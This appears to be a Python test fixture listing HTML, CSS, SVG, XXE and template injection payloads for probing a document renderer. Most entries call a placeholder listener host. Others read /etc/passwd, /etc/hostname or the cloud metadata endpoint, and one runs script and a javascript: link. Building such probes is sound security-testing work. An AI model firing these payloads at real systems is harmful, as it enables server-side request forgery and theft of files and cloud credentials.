"""What somebody types who wants the renderer to fetch, attach, run or break something. {at} is a listener of ours."""

FETCHES = {
    "img": "<img src=http://{at}/img>",
    "metadata": "<img src='http://169.254.169.254/latest/meta-data/'>",
    "srcset": '<img srcset="http://{at}/a 2x">',
    "svg": "<svg><image href='http://{at}/s'/></svg>",
    "svg-use": "<svg><use xlink:href='http://{at}/u#x'/></svg>",
    "object": "<object data=http://{at}/o></object>",
    "embed": "<embed src=file:///etc/passwd>",
    "iframe": "<iframe src=http://{at}/f></iframe>",
    "stylesheet": "<link rel=stylesheet href=http://{at}/c>",
    "import": "<style>@import 'http://{at}/i';</style>",
    "font": "<style>@font-face{font-family:x;src:url(http://{at}/w)}</style>",
    "css-url": "<p style='background:url(http://{at}/b)'>",
    "css-content": "<style>p{content:url(file:///etc/hostname)}</style>",
    "attachment": "</p><link rel=attachment href=file:///etc/passwd>",
    "a-attachment": "<a rel=attachment href=file:///etc/passwd>x</a>",
    "data": "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "eps": "<img src='data:application/postscript,%!PS (x) run'>",
    "svg-data": "<img src=\"data:image/svg+xml,<svg><image href='http://{at}/d'/></svg>\">",
    "huge": "<img width=999999 height=999999 src=http://{at}/h>",
    "script": "<script>fetch('http://{at}/j')</script>",
    "link-js": "<a href=javascript:alert(1)>x</a>",
    "base": "<base href=http://{at}/>",
    "meta": "<meta http-equiv=refresh content=0;url=http://{at}/m>",
    "entity": "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "template": "{% include '/etc/passwd' %}{{ x }}",
    "url": "http://{at}/url file:///etc/passwd",
}


def spelled(text: str, at: str) -> str:
    """A payload that knocks at our listener."""
    return text.replace("{at}", at)
